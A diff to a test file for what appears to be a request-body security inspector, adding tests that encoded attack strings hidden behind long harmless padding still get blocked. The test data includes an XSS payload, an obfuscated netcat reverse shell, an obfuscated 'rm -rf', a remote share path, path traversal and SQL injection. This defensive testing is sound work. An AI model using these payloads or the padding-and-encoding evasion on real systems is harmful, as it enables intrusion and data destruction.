@@ -35,7 +35,7 @@ test.each<[string, string]>([
 
 const IMAGE = '<img src=x onerror=alert(1)>'
 
-// Once detectors have read that much, a value is only looked at as it was sent, and decoded wholly.
+// Once detectors have read that much, a value is looked at in fewer of the forms that it decodes to.
 test.each<[string, string]>([
   ['as it is', IMAGE],
   ['percent-encoded', encodeURIComponent(IMAGE)],
@@ -52,4 +52,27 @@ test.each<[string, string]>([
     policy: { mode: 'monitor' },
   })
   expect(findings.filter(({ path, class: kind }) => path[0] === 'note' && kind === 'xss')).not.toEqual([])
+})
+
+/** Harmless alone, and dear: it wakes most detectors, and decodes. */
+const HARMLESS = "Tom & Jerry's tea (50%41) {x} <b>we</b> liked; ".repeat(700)
+
+// Of these the next decoding that could be done hides what a server's one has shown.
+test.each<[string, string]>([
+  ['a backslash that a shell drops', ';\\n\\c -e /bin/sh 192.0.2.3 4444'],
+  ['a command split by one', 'x;\\r\\m -rf /tmp'],
+  ['a share of another machine', '\\\\192.0.2.1\\x\\f.exe'],
+  ['steps of Windows', '..\\..\\..\\test\\notes.txt'],
+  ['quotes that are encoded in it', "%27%27' union select a,b from users -- "],
+  ['ticks that are encoded in it', 'some words in a plain sentence %60<img src=x onerror=alert(1)>%60 here'],
+])('behind values that are dear to look at, decoded once: %s', async (_name, attack) => {
+  const once = [Buffer.from(attack).toString('base64'), Buffer.from(attack).toString('hex'), encodeURIComponent(attack)]
+  for (const note of [attack, ...once]) {
+    const { verdict } = await inspectBody([Buffer.from(JSON.stringify({ p: HARMLESS, note }))], {
+      type: 'application/json',
+    })
+    expect([note, verdict.status]).toEqual([note, 403])
+  }
+  const { verdict } = await inspectBody([Buffer.from(JSON.stringify({ p: HARMLESS }))], { type: 'application/json' })
+  expect(verdict.status).toBe(0)
 })
